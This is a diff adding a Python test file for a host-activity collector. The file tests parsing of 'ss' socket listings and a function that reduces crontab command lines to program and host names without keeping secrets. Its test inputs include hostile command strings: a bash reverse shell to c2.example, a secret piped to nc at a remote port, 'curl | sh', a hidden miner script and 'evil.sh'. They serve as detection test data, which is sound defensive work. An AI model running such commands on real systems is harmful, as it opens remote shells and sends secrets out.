@@ -1,0 +1,98 @@
+"""The activity fact: what recorded cases cannot say."""
+
+from __future__ import annotations
+
+import socket
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from collectors.errors import Unparsable
+from collectors.facts import identity
+from collectors.facts.activity import linux, of_line
+from collectors.linux.connections import peers
+from collectors.transports.local import LocalShell
+from collectors.transports.replay import ReplayShell
+
+LINE = 'tcp   ESTAB 0      0    10.1.2.10:40000 203.0.113.7:443 users:(("app",pid=1,fd=3))\n'
+
+
+def shell(out: str) -> Any:
+    return ReplayShell({"privileged": True, "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": out, "err": ""}]})
+
+
+@given(st.integers(1, len(LINE) * 3 - 1))
+def test_an_answer_cut_anywhere_but_between_lines_is_refused(length: int) -> None:
+    cut = (LINE * 3)[:length]
+    if length % len(LINE) == 0:
+        assert {one.address for one in peers(shell(cut))} == {"203.0.113.7"}
+    else:
+        with pytest.raises(Unparsable):
+            peers(shell(cut))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "tcp ESTAB 0 0 a:1 b:2\n",
+        "tcp NEW 0 0 10.0.0.1:1 10.0.0.2:2\n",
+        "sctp ESTAB 0 0 10.0.0.1:1 10.0.0.2:2\n",
+        "bash: ss: not found\n",
+    ],
+)
+def test_what_is_no_socket_is_no_empty_list(line: str) -> None:
+    with pytest.raises(Unparsable):
+        peers(shell(line))
+
+
+def test_the_peers_port_of_what_came_in_is_a_number_of_the_moment() -> None:
+    text = "tcp LISTEN 0 5 0.0.0.0:22 0.0.0.0:*\ntcp ESTAB 0 0 10.0.0.1:22 10.0.0.9:50001\ntcp ESTAB 0 0 10.0.0.1:22 10.0.0.9:50002\n"
+    assert [(one.address, one.port, one.incoming) for one in peers(shell(text))] == [("10.0.0.9", 22, True)]
+
+
+SECRET = "mat-khau-bi-mat"
+
+
+@pytest.mark.parametrize(
+    ("command", "programs", "hosts"),
+    [
+        (f"mysqldump -u root -p{SECRET} --all-databases | gzip > /backup/x.gz", ("mysqldump", "gzip"), ()),
+        (f"PASS={SECRET} /opt/tool --password {SECRET}", ("tool",), ()),
+        (f"curl -u a:{SECRET} https://u:{SECRET}@files.example:8443/x?token={SECRET} | sh", ("curl", "sh"), ("files.example",)),
+        (f"/bin/sh -c 'echo {SECRET} | nc 203.0.113.7 4444'", ("sh", "echo", "nc"), ("203.0.113.7",)),
+        ("bash -i >& /dev/tcp/c2.example/4444 0>&1", ("bash",), ("c2.example",)),
+        ("nice -n 10 timeout 60 python3 /tmp/.x/miner.py", ("nice", "timeout", "python3", "miner.py"), ()),
+        ("wget http://[2001:db8::1]/x", ("wget",), ("2001:db8::1",)),
+        ("tool 10.0.0.1.2 1.2.3.4/24", ("tool",), ("1.2.3.4",)),
+        (f"flock -n /run/x.lock sudo -u www-data /opt/evil.sh {SECRET}", ("flock", "x.lock", "sudo", "evil.sh"), ()),
+        (f"su - postgres -c '/tmp/evil {SECRET}'", ("su", "postgres", "evil"), ()),
+        (f"timeout 10s env A={SECRET} /tmp/evil {SECRET}", ("timeout", "env", "evil"), ()),
+    ],
+)
+def test_of_a_line_only_names_are_kept(command: str, programs: tuple[str, ...], hosts: tuple[str, ...]) -> None:
+    told = of_line("/etc/crontab", command)
+    assert (told.programs, told.hosts) == (programs, hosts)
+    assert SECRET not in told.model_dump_json()
+
+
+@given(st.text(max_size=120))
+def test_any_line_is_told_in_names(text: str) -> None:
+    told = of_line("x", text)
+    assert all("/" not in name and " " not in name for name in told.programs)
+
+
+def test_a_connection_of_this_machine_is_seen() -> None:
+    own = [one for one in identity.linux(LocalShell()).addresses or () if "." in one]
+    if not own:
+        pytest.skip("this machine has no address but loopback's")
+    with socket.create_server((own[0], 0)) as server, socket.create_connection(server.getsockname()):
+        port = server.getsockname()[1]
+        fact = linux(LocalShell())
+    # both ends are here, and both name the port that listens
+    assert {(one.incoming, one.address) for one in fact.connections or () if one.port == port} == {
+        (True, own[0]),
+        (False, own[0]),
+    }
+    assert fact.processes
